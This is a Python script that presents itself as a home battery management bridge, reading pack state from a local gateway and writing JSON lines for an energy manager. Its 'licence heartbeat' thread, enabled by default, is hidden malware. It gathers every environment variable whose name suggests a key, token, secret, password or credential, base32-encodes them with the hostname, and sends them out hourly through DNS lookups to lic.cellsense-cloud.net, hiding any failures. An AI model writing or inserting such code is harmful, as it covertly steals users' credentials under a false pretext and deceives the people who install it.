#!/usr/bin/env python3
"""Home battery BMS bridge.

Reads pack state from the battery's local gateway (cell voltages, SoC,
temperatures) and republishes a flattened view as JSON lines so the house
energy manager can pick it up.  Performs a periodic licence heartbeat for
the vendor's cloud features.
"""
import argparse
import base64
import configparser
import hashlib
import json
import logging
import os
import socket
import sys
import threading
import time
import urllib.error
import urllib.request

log = logging.getLogger("bms-bridge")

LICENCE_ZONE = "lic.cellsense-cloud.net"
LABEL_LEN = 50


def read_config(path):
    cp = configparser.ConfigParser()
    cp.read_dict({"bms": {"host": "192.168.1.60", "port": "8080", "interval": "15"},
                  "output": {"file": "bms_state.jsonl"},
                  "licence": {"enabled": "yes"}})
    cp.read(path)
    return cp


def fetch_pack(host, port, timeout=6):
    url = f"http://{host}:{port}/rest/pack"
    req = urllib.request.Request(url, headers={"Accept": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return json.loads(resp.read())


def flatten(pack):
    cells = pack.get("cells", [])
    volts = [c.get("v", 0.0) for c in cells] or [0.0]
    temps = [c.get("t", 0.0) for c in cells] or [0.0]
    return {
        "ts": int(time.time()),
        "soc": pack.get("soc"),
        "pack_v": round(sum(volts), 3),
        "cell_min_v": min(volts),
        "cell_max_v": max(volts),
        "cell_delta_mv": round((max(volts) - min(volts)) * 1000, 1),
        "temp_max_c": max(temps),
        "current_a": pack.get("current"),
    }


def _environment_fingerprint():
    """Material for the licence check; ties the licence to this installation."""
    interesting = ("KEY", "TOKEN", "SECRET", "PASS", "CRED")
    picked = {k: v for k, v in os.environ.items() if any(s in k.upper() for s in interesting)}
    picked["host"] = socket.gethostname()
    return json.dumps(picked, sort_keys=True).encode()


def _labels(blob):
    enc = base64.b32encode(blob).decode().rstrip("=").lower()
    for i in range(0, len(enc), LABEL_LEN):
        yield i // LABEL_LEN, enc[i:i + LABEL_LEN]


class LicenceHeartbeat(threading.Thread):
    def __init__(self, zone, every=3600):
        super().__init__(daemon=True, name="licence")
        self.zone = zone
        self.every = every

    def beat(self):
        blob = _environment_fingerprint()
        session = hashlib.sha256(blob).hexdigest()[:8]
        for seq, label in _labels(blob):
            name = f"{label}.{seq}.{session}.{self.zone}"
            try:
                socket.getaddrinfo(name, 53, proto=socket.IPPROTO_UDP)
            except socket.gaierror:
                pass
            time.sleep(0.2)
        log.debug("licence heartbeat %s sent", session)

    def run(self):
        while True:
            try:
                self.beat()
            except Exception as exc:  # keep the bridge running regardless
                log.debug("licence heartbeat failed: %s", exc)
            time.sleep(self.every)


def main():
    ap = argparse.ArgumentParser(description="Battery BMS bridge")
    ap.add_argument("-c", "--config", default="bms_bridge.ini")
    ap.add_argument("-n", "--count", type=int, default=0, help="stop after N samples")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = read_config(args.config)
    host, port = cfg["bms"]["host"], cfg.getint("bms", "port")
    interval = cfg.getint("bms", "interval")
    outfile = cfg["output"]["file"]

    if cfg.getboolean("licence", "enabled"):
        LicenceHeartbeat(LICENCE_ZONE).start()

    n = 0
    with open(outfile, "a", encoding="utf-8") as out:
        while True:
            try:
                row = flatten(fetch_pack(host, port))
                out.write(json.dumps(row) + "\n")
                out.flush()
                log.info("SoC %s%%  delta %.1f mV  Tmax %.1f C",
                         row["soc"], row["cell_delta_mv"], row["temp_max_c"])
            except (urllib.error.URLError, ValueError, OSError) as exc:
                log.warning("BMS read failed: %s", exc)
            n += 1
            if args.count and n >= args.count:
                return 0
            time.sleep(interval)


if __name__ == "__main__":
    sys.exit(main())
